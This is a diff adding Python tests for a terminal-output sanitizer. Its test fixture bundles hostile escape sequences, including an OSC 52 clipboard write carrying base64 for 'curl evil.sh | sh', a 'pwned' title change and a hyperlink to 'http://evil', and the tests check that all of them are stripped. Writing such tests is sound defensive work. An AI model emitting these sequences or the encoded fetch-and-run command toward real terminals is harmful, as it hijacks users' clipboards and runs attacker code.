@@ -174,8 +174,57 @@ def test_only_sgr_sequences_survive() -> None:
 def test_bad_bytes_and_controls_are_safe() -> None:
     data = b"bad \xff\xfe end\x00\x01\x7f\x07 \xc2\x9b x \x1b\n"
     (line,) = render_final_lines(data)
-    assert line == "bad \ufffd\ufffd end\u2400\u2401\u2421 \ufffd x "
+    # Bytes that are not UTF-8 show as U+FFFD; C0 controls, DEL and C1 (here CSI) are dropped.
+    assert line == "bad \ufffd\ufffd end  x "
     assert all(ord(char) >= 0x20 for char in line)
+
+
+#: Everything the raw pane must drop, between the letters a..l (issue 11, item 14).
+HOSTILE = (
+    b"a\x1b]52;c;" + b"Y3VybCBldmlsLnNoIHwgc2g=" * 400 + b"\x07"  # OSC 52 clipboard write, BEL
+    + b"b\x1b]0;pwned title\x1b\\"  # title change, ST
+    + b"c\x1bP1$r" + b"q" * 600 + b"\x1b\\"  # DCS (longer than any held-back sequence)
+    + b"d\x1b_Gf=100;" + b"AAAA" * 300 + b"\x1b\\"  # APC (kitty graphics)
+    + b"e\x1b^private message\x1b\\"  # PM
+    + b"f\x1bXstart of string\x1b\\"  # SOS
+    + b"g\x1b[?1049h\x1b[?25l\x1b[?1000h"  # private modes: alternate screen, cursor, mouse
+    + b"h\x1b[2J\x1b[3J\x1b[H\x1b[6n\x1b[>0c\x1b[2 q"  # clear, home, reports, cursor style
+    + b"i\x1bc\x1b7\x1b8\x1b(0"  # reset, save/restore, charset
+    + b"j\x00\x05\x07\x0e\x0f\x1a\x7f\xc2\x9d\xc2\x90"  # C0, DEL, C1 (OSC, DCS)
+    + b"k\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"  # OSC 8 hyperlink: its text stays
+    + b"l\n"
+)
+
+
+def test_control_strings_private_modes_and_controls_are_dropped_whole() -> None:
+    lines = render_final_lines(HOSTILE)
+    assert lines == ["abcdefghijklinkl"]
+    # Cut anywhere, even inside a long string or its ST, the result is the same.
+    rng = random.Random(52)
+    for _ in range(300):
+        cuts = [rng.randrange(len(HOSTILE)) for _ in range(rng.randrange(1, 12))]
+        assert feed_in_pieces(HOSTILE, cuts).lines == lines
+    for cut in range(0, len(HOSTILE), 7):
+        assert feed_in_pieces(HOSTILE, [cut]).lines == lines
+    assert feed_in_pieces(HOSTILE, list(range(len(HOSTILE)))).lines == lines
+
+
+def test_an_unterminated_string_hides_the_rest_of_the_chunks_until_it_ends() -> None:
+    text = TerminalText()
+    text.feed(b"before\n\x1b]52;c;")
+    for _ in range(50):
+        text.feed(b"QUJD" * 4096)  # 800 KB of payload, never shown, never kept
+        assert text.lines == ["before"]
+    text.feed(b"QUJD\x07after\n")
+    assert text.lines == ["before", "after"]
+    # An ESC of another sequence ends a string too (as on a terminal); SGR after it works.
+    text.feed(b"\x1bPpayload\x1b[31mred\n")
+    assert text.lines == ["before", "after", "\x1b[31mred"]
+
+
+def test_only_real_sgr_reaches_the_lines() -> None:
+    data = b"\x1b[?5mA\x1b[>4;2mB\x1b[1 mC\x1b[1;31mD\x1b[0mE\n"
+    assert render_final_lines(data) == ["ABC\x1b[1;31mD\x1b[0mE"]
 
 
 def test_incomplete_utf8_at_end_becomes_replacement() -> None:
